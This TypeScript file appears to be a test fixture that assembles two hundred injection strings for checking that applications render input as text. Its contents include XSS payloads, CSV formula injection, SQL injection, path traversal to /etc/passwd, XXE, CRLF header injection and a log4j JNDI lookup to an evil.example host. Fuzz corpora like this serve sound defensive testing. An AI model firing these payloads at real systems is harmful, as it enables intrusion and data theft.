/** Global that a string sets when it is executed instead of shown. */
export const MARKER = 'hostileRan'
const RUN = `window.${MARKER}=1`

/** Elements that run something by being there. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${MARKER}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${MARKER}=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<math><mtext></p><img src=x onerror=${RUN}></math>`,
  `<template><script>${RUN}</script></template>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<link rel=stylesheet href="data:text/css,*{display:none}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<x onclick=${RUN} style="position:fixed;inset:0">x</x>`,
]
/** Terminators of an attribute, comment, title or script. */
const ESCAPES = ['', '"', "'", '">', "'>", '-->', '</title>', '</textarea>', ']]>', '\\"']

const URLS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=`,
  `vbscript:msgbox(1)`,
  `//evil.example/x`,
  `https://evil.example\\@example.com/`,
]
/** Spreadsheet formulas. */
const FORMULAS = [
  `=HYPERLINK("https://evil.example","x")`,
  `=cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  ` =1+1`,
  `"=1+1"`,
  `=1+1","=2+2`,
  `;=1+1`,
  `=IMPORTXML("https://evil.example","//a")`,
]
/** Templates, queries, paths, headers, formats and names with a special meaning elsewhere. */
const OTHERS = [
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '%BROKERAGE_NAME%',
  '{{firstName}}',
  '$& $1 $$ $`',
  '${jndi:ldap://evil.example/a}',
  "'; drop table users; --",
  "' or '1'='1",
  '1; select pg_sleep(10)',
  '\\x27 or 1=1',
  '$1 $2 ?',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  'a\r\nBcc: everybody@evil.example',
  'a\nSubject: other',
  'a%0d%0aSet-Cookie: sid=1',
  '%s %d %n %x',
  '%00',
  '%F0%80%80',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  '0',
  '-1',
  '1e309',
  '{"a":1}',
  '[]',
  '&lt;script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&amp;&copy;&nbsp;',
  '\u202Egnp.exe',
  'a\u200Bb\u200Dc',
  '\uFEFFbom',
  '\u2028line\u2029paragraph',
  'Z͑̇ͫ̓a͙͋l̨̛g͍o',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'ﷺ'.repeat(20),
  'W'.repeat(180),
  '中文字符測試',
  'שלום עולם',
  'مرحبا بالعالم',
  '`${1}` ~~x~~ **b** [x](javascript:1)',
  '<!-- -->',
  '<![CDATA[x]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '*/ } body { display: none } /*',
  'expression(alert(1))',
  'url(javascript:alert(1))',
]

const brokenOut = ELEMENTS.flatMap((element, at) =>
  ESCAPES.filter((_, place) => (at + place) % 2 === 0).map((escape) => `${escape}${element}`),
)
const COUNT = 200
const rest = [...URLS, ...FORMULAS, ...OTHERS]

/** Two hundred strings that are dangerous wherever text is taken for something else; none is longer than 200 characters. */
export const HOSTILE_STRINGS: readonly string[] = [...rest, ...brokenOut].slice(0, COUNT)
